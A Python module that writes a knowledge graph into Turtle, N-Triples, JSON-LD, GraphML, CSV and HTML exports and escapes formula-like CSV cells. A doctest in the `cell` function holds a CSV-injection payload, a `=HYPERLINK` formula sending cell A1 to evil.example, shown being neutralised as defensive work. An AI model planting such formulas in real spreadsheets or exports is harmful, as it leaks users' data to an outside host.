"""Writing the graph into a folder in every format: Turtle, N-Triples, JSON-LD, GraphML, CSV, HTML.

`WRITERS` lists every file and how to make it; the folder (kg.folder) writes them all together
by one commit (kg.folder.commit): a failure, or a kill at any instant, leaves either the
previous exports or the new ones, never a mix or a truncated file.
"""
from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import networkx as nx
from rdflib import Graph

from . import views

def turtle(rdf: Graph) -> str:
    return rdf.serialize(format="turtle")


def ntriples(rdf: Graph) -> str:
    """N-Triples, one triple a line, sorted so the same graph always gives the same file."""
    lines = rdf.serialize(format="nt").split("\n")  # not splitlines(): a literal may hold U+2028 or U+000C
    return "\n".join(sorted(line for line in lines if line.strip())) + "\n"


def jsonld(rdf: Graph) -> str:
    """JSON-LD with the kg prefixes as context, nodes sorted by @id."""
    context = {prefix: str(ns) for prefix, ns in rdf.namespaces() if prefix}
    doc = json.loads(rdf.serialize(format="json-ld", context=context, auto_compact=True))
    if "@graph" in doc:
        doc["@graph"] = sorted(doc["@graph"], key=lambda node: node.get("@id", ""))
    return json.dumps(doc, indent=1, sort_keys=True, ensure_ascii=False) + "\n"


def _flat(graph: nx.MultiDiGraph) -> nx.MultiDiGraph:
    """A copy whose list and bool attributes are JSON strings, as GraphML and CSV need."""
    flat = nx.MultiDiGraph()
    for node, data in sorted(graph.nodes(data=True)):
        flat.add_node(node, **{k: _scalar(v) for k, v in sorted(data.items())})
    for s, o, key, data in sorted(graph.edges(keys=True, data=True), key=lambda e: e[:3]):
        flat.add_edge(s, o, key=key, **{k: _scalar(v) for k, v in sorted(data.items())})
    return flat


def _scalar(value: object) -> str | float | int:
    if isinstance(value, (list, dict, bool)):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    return value  # type: ignore[return-value]


def graphml(graph: nx.MultiDiGraph) -> str:
    return "\n".join(nx.generate_graphml(_flat(graph))) + "\n"


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(text: str) -> str:
    """A CSV cell a spreadsheet shows as text: a cell starting like a formula gets a leading `'`
    (OWASP's advice for CSV injection), since titles come from listings anyone can write.

    >>> print(cell('=HYPERLINK("http://evil.example/?"&A1,"click")'), cell("+1"), cell("ResNet"))
    '=HYPERLINK("http://evil.example/?"&A1,"click") '+1 ResNet
    """
    return f"'{text}" if text.startswith(_FORMULA_START) else text


def nodes_csv(graph: nx.MultiDiGraph) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "type", "label", "aliases", "code_status", "sources"])
    for node, data in sorted(graph.nodes(data=True)):
        writer.writerow(map(cell, [node, data["type"], data.get("label", ""), "|".join(data.get("aliases", [])),
                                   data.get("code_status", ""), "|".join(data.get("sources", []))]))
    return out.getvalue()


def edges_csv(graph: nx.MultiDiGraph) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["source", "predicate", "target", "confidence", "extractor", "evidence"])
    for s, o, key, data in sorted(graph.edges(keys=True, data=True), key=lambda e: e[:3]):
        best = data["evidence"][0] if data["evidence"] else {"extractor": "", "sentence": ""}
        writer.writerow([cell(s), key, cell(o), f"{data['confidence']:.2f}", best["extractor"], cell(best["sentence"])])
    return out.getvalue()


WRITERS: dict[str, Callable[[Graph, nx.MultiDiGraph], str]] = {  # the files of a small graph's folder, and only these
    "graph.ttl": lambda rdf, g: turtle(rdf),
    "graph.nt": lambda rdf, g: ntriples(rdf),
    "graph.jsonld": lambda rdf, g: jsonld(rdf),
    "graph.graphml": lambda rdf, g: graphml(g),
    "nodes.csv": lambda rdf, g: nodes_csv(g),
    "edges.csv": lambda rdf, g: edges_csv(g),
    "graph.html": lambda rdf, g: views.to_html(views.select(g, title="Overview")),
    "architecture-lineage.html": lambda rdf, g: views.to_html(views.lineage(g)),
    "dataset-papers.html": lambda rdf, g: views.to_html(views.dataset_papers(g)),
    "architecture-timeline.html": lambda rdf, g: views.to_html(views.timeline(g)),
}


def makers(rdf: Graph, graph: nx.MultiDiGraph) -> dict[str, Callable[[], str]]:
    """Export file name → a function that makes its text (called one at a time, to bound memory)."""
    return {name: (lambda writer=writer: writer(rdf, graph)) for name, writer in WRITERS.items()}
